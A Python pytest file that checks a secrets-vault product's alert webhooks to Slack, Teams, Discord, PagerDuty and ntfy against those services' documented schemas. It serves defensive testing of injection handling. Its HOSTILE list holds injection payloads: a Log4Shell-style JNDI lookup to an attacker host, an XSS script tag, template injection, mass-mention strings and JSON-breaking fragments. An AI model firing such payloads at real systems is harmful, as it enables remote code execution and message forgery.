"""What deliveries look like for each receiver, checked against the documented schemas (N-2).

Read on 30 November 2026: docs.slack.dev/reference/block-kit (Slack);
learn.microsoft.com/power-automate/teams/send-a-message-in-teams and adaptivecards.io/explorer
(Teams); docs.discord.com/developers/resources/webhook and /resources/message (Discord);
developer.pagerduty.com/docs/send-alert-event (PagerDuty); docs.ntfy.sh/publish/#publish-as-json
(ntfy).
"""

# ruff: noqa: D101, N815 -- The receivers define the names and members.

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime
from typing import Annotated, Any, Literal

import msgspec
import pytest

from strongroom_core.access.entry import Severity
from strongroom_core.alerts.alert import Alert, example
from strongroom_core.alerts.templates import LONGEST_BODY, body_of, with_key
from strongroom_core.alerts.views import Template

NOW = datetime(2026, 11, 30, 12, tzinfo=UTC)
KEY = "a-key-that-isn-t-in-the-stored-body"
ALERT = replace(example("https://strongroom.example", NOW), detail={"drill": True})

HOSTILE = [
    "<!channel> <@U123> <https://evil.example|click>",
    "@everyone @here <@&1>",
    "[click](https://evil.example) **bold** `code` # head",
    '"}],"text":"forged',
    "line\nbreak\r\n\x00\x1b[31m\u202e",
    "{{7*7}} ${jndi:ldap://evil.example} <script>alert(1)</script>",
    "é" * 5000,
]


class Strict(msgspec.Struct, forbid_unknown_fields=True, kw_only=True):
    """Rejects members that the documentation doesn't list."""


class SlackText(Strict):
    type: Literal["plain_text"]
    text: Annotated[str, msgspec.Meta(min_length=1, max_length=3000)]
    emoji: bool = True


class SlackButton(Strict):
    type: Literal["button"]
    text: SlackText
    url: Annotated[str, msgspec.Meta(max_length=3000)]


class SlackBlock(Strict):
    type: Literal["header", "section", "context", "actions"]
    text: SlackText | None = None
    elements: list[Any] = []


class Slack(Strict):
    text: str
    blocks: Annotated[list[SlackBlock], msgspec.Meta(max_length=50)]


class TextRun(Strict):
    type: Literal["TextRun"]
    text: str
    weight: Literal["Bolder"] | None = None
    size: Literal["Medium"] | None = None
    isSubtle: bool = False


class RichTextBlock(Strict):
    type: Literal["RichTextBlock"]
    inlines: list[TextRun]


class OpenUrl(Strict):
    type: Literal["Action.OpenUrl"]
    title: str
    url: str


class Card(Strict):
    schema: Literal["http://adaptivecards.io/schemas/adaptive-card.json"] = msgspec.field(
        name="$schema"
    )
    type: Literal["AdaptiveCard"]
    version: Literal["1.4"]
    body: list[RichTextBlock]
    actions: list[OpenUrl]


class Attachment(Strict):
    contentType: Literal["application/vnd.microsoft.card.adaptive"]
    contentUrl: None
    content: Card


class Teams(Strict):
    type: Literal["message"]
    attachments: Annotated[list[Attachment], msgspec.Meta(min_length=1)]


class Footer(Strict):
    text: Annotated[str, msgspec.Meta(max_length=2048)]


class Embed(Strict):
    title: Annotated[str, msgspec.Meta(max_length=256)]
    description: Annotated[str, msgspec.Meta(max_length=4096)]
    url: str
    color: Annotated[int, msgspec.Meta(ge=0, le=0xFFFFFF)]
    timestamp: datetime
    footer: Footer


class Mentions(Strict):
    parse: Annotated[list[str], msgspec.Meta(max_length=0)]


class Discord(Strict):
    allowed_mentions: Mentions
    embeds: Annotated[list[Embed], msgspec.Meta(max_length=10)]


class PagerDutyPayload(Strict):
    summary: Annotated[str, msgspec.Meta(max_length=1024)]
    source: str
    severity: Literal["critical", "error", "warning", "info"]
    timestamp: datetime
    class_: str = msgspec.field(name="class")
    custom_details: dict[str, str | None]


class PagerDutyLink(Strict):
    href: str
    text: str


class PagerDuty(Strict):
    routing_key: str
    event_action: Literal["trigger"]
    dedup_key: Annotated[str, msgspec.Meta(max_length=255)]
    client: str
    client_url: str
    payload: PagerDutyPayload
    links: list[PagerDutyLink]


class Ntfy(Strict):
    topic: Annotated[str, msgspec.Meta(min_length=1)]
    title: str
    message: Annotated[str, msgspec.Meta(max_length=4096)]
    priority: Annotated[int, msgspec.Meta(ge=1, le=5)]
    click: str


class Data(Strict, rename="camel"):
    vault_id: str
    actor_kind: str
    actor_id: str | None
    machine_id: str | None
    secret_id: str | None
    project_id: str | None
    source_ip: str
    detail: dict[str, Any]


class Ours(Strict):
    """WIRE 6."""

    id: str
    event: str
    severity: Severity
    timestamp: int
    data: Data


SCHEMAS: dict[Template, Any] = {
    Template.STRONGROOM: Ours,
    Template.SLACK: Slack,
    Template.TEAMS: Teams,
    Template.DISCORD: Discord,
    Template.PAGERDUTY: PagerDuty,
    Template.NTFY: Ntfy,
}


def sent(template: Template, alert: Alert) -> bytes:
    """Return what a receiver gets."""
    needs = template in (Template.PAGERDUTY, Template.NTFY)
    return with_key(template, body_of(template, alert), KEY if needs else None)


@pytest.mark.parametrize("severity", Severity)
@pytest.mark.parametrize("template", Template)
def test_bodies_fit_the_documented_schema(template: Template, severity: Severity) -> None:
    """N-2: each receiver's body has exactly the members that its documentation describes."""
    body = sent(template, replace(ALERT, severity=severity))

    assert msgspec.json.decode(body, type=SCHEMAS[template])


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("template", Template)
def test_hostile_names_are_harmless(template: Template, name: str) -> None:
    """N-2: a name can't add members, mention anyone, become a link or formatting, or make a body huge."""
    sentence = f"{name} read the canary {name}"
    alert = replace(ALERT, actor_name=name, target_name=name, project_name=name, sentence=sentence)
    body = sent(template, alert)
    told = msgspec.json.decode(body, type=SCHEMAS[template])

    assert len(body) < LONGEST_BODY * 3
    match told:
        case Slack():
            assert "<" not in told.text
        case Discord():
            text = told.embeds[0].description
            assert "@everyone" not in text
            assert "](" not in text.replace("\\", "\\ ")
            assert "**bold**" not in text
        case Teams():
            assert all(
                run.text.isprintable()
                for each in told.attachments[0].content.body
                for run in each.inlines
            )
        case Ntfy():
            assert all(line.isprintable() for line in told.message.split("\n"))
        case _:
            pass


def test_a_stored_body_lacks_the_key() -> None:
    """E-4: the integration key is added to the body only when it is sent."""
    for template in (Template.PAGERDUTY, Template.NTFY):
        assert KEY.encode() not in body_of(template, ALERT)
        assert KEY.encode() in sent(template, ALERT)


def test_a_long_detail_is_shortened() -> None:
    """N-2: an event about thousands of secrets doesn't cause a delivery that receivers reject."""
    alert = replace(ALERT, detail={"given": [f"SECRET_{n}: machine" for n in range(5000)]})
    body = sent(Template.STRONGROOM, alert)

    assert len(body) < LONGEST_BODY
    assert msgspec.json.decode(body)["data"]["detail"]["shortened"] is True


@pytest.mark.parametrize(("event", "said"), [("canary_drill", "drill"), ("webhook_test", "test")])
@pytest.mark.parametrize("template", [each for each in Template if each is not Template.STRONGROOM])
def test_a_drill_and_a_test_say_so(template: Template, event: str, said: str) -> None:
    """C-5: nobody can mistake a drill for an alarm."""
    assert f"({said}, " in sent(template, replace(ALERT, event=event)).decode()
